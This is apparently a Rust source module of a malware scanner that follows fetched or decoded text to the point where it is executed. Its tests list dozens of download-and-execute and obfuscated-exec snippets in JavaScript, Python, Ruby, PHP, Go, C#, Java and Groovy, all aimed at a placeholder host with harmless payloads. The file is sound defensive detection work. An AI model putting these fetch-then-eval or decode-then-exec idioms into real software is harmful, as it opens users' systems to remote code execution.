//! Source code of any language as one small form, through which text is followed to where it is run.
//!
//! JavaScript and TypeScript go through `oxc`, Python through `ruff`, others through a reader of tokens that knows calls and
//! assignments and no grammar. [`flow`] knows no language: what fetches, decodes and runs stands in the tables of [`known`].

mod call;
pub(crate) mod flow;
mod ir;
mod javascript;
mod known;
mod loose;
mod nesting;
mod python;
mod value;

pub(crate) use self::{flow::Flow, ir::Program};

use crate::command::Language;

/// Bytes of a file that are parsed.
pub(crate) const MAX_BYTES: usize = 4 << 20;

/// How source text is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Dialect {
    /// By `oxc`; the ending says which of its forms.
    JavaScript,
    Python,
    /// By tokens alone.
    Loose,
}

/// Why source text was not read.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Unread {
    /// It is nested deeper, or longer, than is read.
    TooMuch,
    /// It is not of the language.
    Syntax,
}

/// The dialect of a file by its ending.
pub(crate) fn dialect(ending: &str) -> Option<Dialect> {
    match ending {
        "js" | "mjs" | "cjs" | "jsx" | "ts" | "mts" | "cts" | "tsx" | "es6" => Some(Dialect::JavaScript),
        "py" | "pyw" | "pyi" => Some(Dialect::Python),
        "rb" | "gemspec" | "rake" | "podspec" | "php" | "phtml" | "inc" | "rs" | "go" | "cs" | "java"
        | "kt" | "kts" | "gradle" | "groovy" | "lua" | "swift" | "pl" | "pm" | "scala" | "dart" | "ex"
        | "exs" | "vbs" | "ps1" | "psm1" | "applescript" | "sol" | "r" | "jl" | "nim" | "zig" | "el"
        | "vim" | "hta" | "jse" | "wsf" => Some(Dialect::Loose),
        _ => None,
    }
}

/// The dialect of code that stands in a command line.
pub(crate) const fn dialect_of(language: Language) -> Dialect {
    match language {
        Language::JavaScript => Dialect::JavaScript,
        Language::Python => Dialect::Python,
        _ => Dialect::Loose,
    }
}

/// Source text in the common form.
pub(crate) fn read(text: &str, dialect: Dialect, ending: &str) -> Result<Program, Unread> {
    if text.len() > MAX_BYTES || nesting::deepest(text) > nesting::MOST {
        return Err(Unread::TooMuch);
    }
    match dialect {
        Dialect::JavaScript => javascript::read(text, ending),
        Dialect::Python => python::read(text),
        Dialect::Loose => Ok(loose::read(text)),
    }
}

#[cfg(test)]
mod tests {
    use super::{
        flow::{How, What},
        *,
    };

    fn runs(ending: &str, text: &str) -> Vec<(u32, What, How)> {
        let dialect = dialect(ending).expect("a language");
        let mut flow = Flow::default();
        flow.set_environment("URL=aHR0cHM6Ly9hLmludmFsaWQvYg==");
        flow.add(&format!("src/x.{ending}"), read(text, dialect, ending).expect("read"), dialect);
        flow.run().0.into_iter().map(|hit| (hit.line, hit.what, hit.how)).collect()
    }

    fn fetched(ending: &str, text: &str) -> bool {
        runs(ending, text).iter().any(|(_, what, _)| matches!(what, What::Fetched(_) | What::Dropped(_)))
    }

    fn decoded(ending: &str, text: &str) -> bool {
        runs(ending, text).iter().any(|(_, what, _)| matches!(what, What::Decoded(_)))
    }

    #[test]
    fn javascript_that_runs_what_it_fetches_is_followed_however_it_is_written() {
        for text in [
            "fetch('https://a.invalid/x').then(r => r.text()).then(t => eval(t));",
            "const axios = require('axios'); axios.get('https://a.invalid').then(({ data }) => { (0, eval)(data.code) });",
            "async function f() { const r = await fetch(u); return r.json(); } const u = 'https://a.invalid'; f().then(j => new Function('require', j.c)(require));",
            "import got from 'got'; const x = await got('https://a.invalid').text(); globalThis['ev' + 'al'](x);",
            "require('https').get('https://a.invalid', res => { let b = ''; res.on('data', c => b += c); res.on('end', () => require('vm').runInThisContext(b)); });",
            "const h = e => { new (Function.constructor)('require', e)(require) }; axios.get(atob(process.env.URL)).catch(e => h(e.response.data));",
            "try { await axios.get('https://a.invalid/b') } catch (e) { const f = (async () => {}).constructor; f(e.response.data)() }",
            "const { exec } = require('child_process'); fetch('https://a.invalid').then(r => r.text()).then(c => exec(c));",
            "const s = require('socket.io-client')('https://a.invalid'); s.on('cmd', d => require('child_process').exec(d));",
            "const m = new module.constructor(); fetch('https://a.invalid').then(r => r.text()).then(t => m._compile(t, ''));",
            "const d = await fetch('https://a.invalid').then(r => r.text()); await import('data:text/javascript,' + d);",
            "const d = await (await fetch('https://a.invalid')).text(); Reflect.construct(Function, ['require', d])(require);",
            "const fs = require('fs'); const p = '/tmp/x.js'; axios.get('https://a.invalid').then(r => { fs.writeFileSync(p, r.data); require('child_process').spawn('node', [p]) });",
            "const o = await (await fetch('https://a.invalid/o.json')).json(); require('ejs').render('<p></p>', {}, o);",
            "const { data } = await axios.get('https://a.invalid'); setTimeout(data.run, 10);",
            "class A { async go() { this.t = await (await fetch('https://a.invalid')).text(); this.end() } end() { eval(this.t) } } new A().go();",
        ] {
            assert!(fetched("js", text), "{text}\n{:?}", runs("js", text));
        }
    }

    #[test]
    fn what_is_decoded_and_run_is_followed_in_every_language() {
        for (ending, text) in [
            ("js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())"),
            (
                "js",
                "const k = [99,111,110,115,111,108,101,46,108,111,103]; new Function(String.fromCharCode(...k))()",
            ),
            ("js", "const s = 'Y29uc29sZS5sb2coMSk='; const d = x => atob(x); Function(d(s))();"),
            (
                "js",
                "const a = [12,33,44,55,66,77,88,99,11]; const t = a.map(c => String.fromCharCode(c ^ 7)).join(''); eval(t)",
            ),
            ("js", "eval(')1(gol.elosnoc'.split('').reverse().join(''))"),
            (
                "js",
                "const c = require('child_process'); c['ex' + 'ec'](Buffer.from('6563686f2031', 'hex').toString())",
            ),
            ("py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
            (
                "py",
                "import zlib, base64 as b\n_ = lambda x: zlib.decompress(b.b64decode(x[::-1]))\nexec(_(b'=kSMo03cHJp'))",
            ),
            (
                "py",
                "g = getattr(__import__('builtins'), 'ex' + 'ec')\ng(bytes.fromhex('7072696e742831290a'))",
            ),
            ("py", "import os, codecs\nos.system(codecs.decode('rpub uryyb jbeyq', 'rot13'))"),
            ("py", "exec(''.join(chr(c ^ 5) for c in [117,119,108,107,113,45,52,44,53]))"),
            ("rb", "system([\"6563686f20494e455254\"].pack(\"H*\"))"),
            ("rb", "require 'base64'\neval Base64.decode64(\"cHV0cyAxMjM0NTY=\")"),
            ("php", "<?php\n$a = 'ZWNobyAxMjM0NTY7';\neval(base64_decode($a));"),
            (
                "rs",
                "fn main() {\n let s: String = [68,66,73,78,1,104,111,100].iter().map(|b| (b ^ 0x21u8) as char).collect();\n Command::new(\"sh\").arg(\"-c\").arg(s).spawn();\n}",
            ),
            (
                "go",
                "func init() {\n\tb, _ := base64.StdEncoding.DecodeString(\"ZWNobyAxMjM0NTY=\")\n\texec.Command(\"sh\", \"-c\", string(b)).Run()\n}",
            ),
            (
                "cs",
                "var t = Encoding.UTF8.GetString(Convert.FromBase64String(\"ZWNobyAxMjM0NTY=\"));\nProcess.Start(\"sh\", t);",
            ),
            ("groovy", "def c = new String('ZWNobyAxMjM0NTY='.decodeBase64())\nc.execute()"),
            (
                "java",
                "Runtime.getRuntime().exec(new String(Base64.getDecoder().decode(\"ZWNobyAxMjM0NTY=\")));",
            ),
        ] {
            assert!(decoded(ending, text), "{ending}: {text}\n{:?}", runs(ending, text));
        }
    }

    #[test]
    fn python_and_others_that_run_what_they_fetch_are_followed() {
        for (ending, text) in [
            ("py", "import requests\nexec(requests.get('https://a.invalid').text)"),
            (
                "py",
                "import urllib.request as u\ndef go():\n    return u.urlopen('https://a.invalid').read()\ncompiled = compile(go(), 'x', 'exec')\neval(compiled)",
            ),
            (
                "py",
                "import yaml, requests\ncfg = yaml.load(requests.get('https://a.invalid').text, Loader=yaml.Loader)",
            ),
            (
                "py",
                "import pickle\nfrom urllib.request import urlopen\npickle.loads(urlopen('https://a.invalid').read())",
            ),
            (
                "py",
                "import subprocess, requests\nsubprocess.run(requests.get('https://a.invalid').json()['c'], shell=True)",
            ),
            ("rb", "require 'open-uri'\neval URI.open('https://a.invalid').read"),
            ("php", "<?php eval(file_get_contents('https://a.invalid'));"),
            ("cs", "var c = new WebClient().DownloadString(\"https://a.invalid\");\nAssembly.Load(c);"),
            ("groovy", "evaluate(new URL('https://a.invalid').text)"),
        ] {
            assert!(fetched(ending, text), "{ending}: {text}\n{:?}", runs(ending, text));
        }
    }

    #[test]
    fn honest_code_is_left_alone() {
        for (ending, text) in [
            (
                "js",
                "const r = await fetch('https://a.invalid'); const j = await r.json(); console.log(j); document.title = j.t;",
            ),
            ("js", "export function compile(src) { return new Function('data', src) }"),
            (
                "js",
                "const m = text.match(/x/); re.exec(text); const img = Buffer.from(png, 'base64'); fs.writeFileSync('a.png', img)",
            ),
            (
                "js",
                "export async function load(url) { const t = await (await fetch(url)).text(); return parse(t) }",
            ),
            (
                "js",
                "const { execFileSync } = require('child_process'); execFileSync('docker', ['compose', 'up', '-d', 'db'])",
            ),
            (
                "js",
                "const r = await axios.get('https://a.invalid'); setTimeout(() => show(r.data), 10); const n = new this.constructor(r.data)",
            ),
            (
                "js",
                "const v = (await axios.get('https://a.invalid')).data.version; exec(`git checkout ${v}`)",
            ),
            (
                "js",
                "const html = ejs.render(template, { items: await (await fetch('https://a.invalid')).json() })",
            ),
            ("py", "exec(open('src/version.py').read())\nimport re\nre.compile('x')"),
            (
                "py",
                "import yaml, requests\nyaml.load(requests.get('https://a.invalid').text, Loader=yaml.SafeLoader)",
            ),
            (
                "py",
                "import base64, requests\nrequests.post('https://a.invalid', data=base64.b64decode('cHJpbnQoMSk='))",
            ),
            (
                "rs",
                "fn main() {\n let ok = Command::new(\"pkg-config\").args([\"--exists\", \"zlib\"]).status();\n}",
            ),
            ("rs", "fn t() {\n assert!(hex::decode(\"68656c6c6f20776f726c64\").is_ok(), \"{x}\");\n}"),
            ("rb", "require \"mkmf\"\nhave_library(\"z\")\ncreate_makefile(\"y/y\")"),
        ] {
            let grave = |(_, what, _): &(u32, What, How)| !matches!(what, What::Written(_) | What::Asked);
            assert!(!runs(ending, text).iter().any(grave), "{ending}: {text}\n{:?}", runs(ending, text));
        }
        let asked = runs(
            "js",
            "export const load = (url) => fetch(url).then(r => r.text()).then(t => (0, eval)(t));",
        );
        assert!(asked.iter().all(|(_, what, _)| *what == What::Asked), "{asked:?}");
    }
}
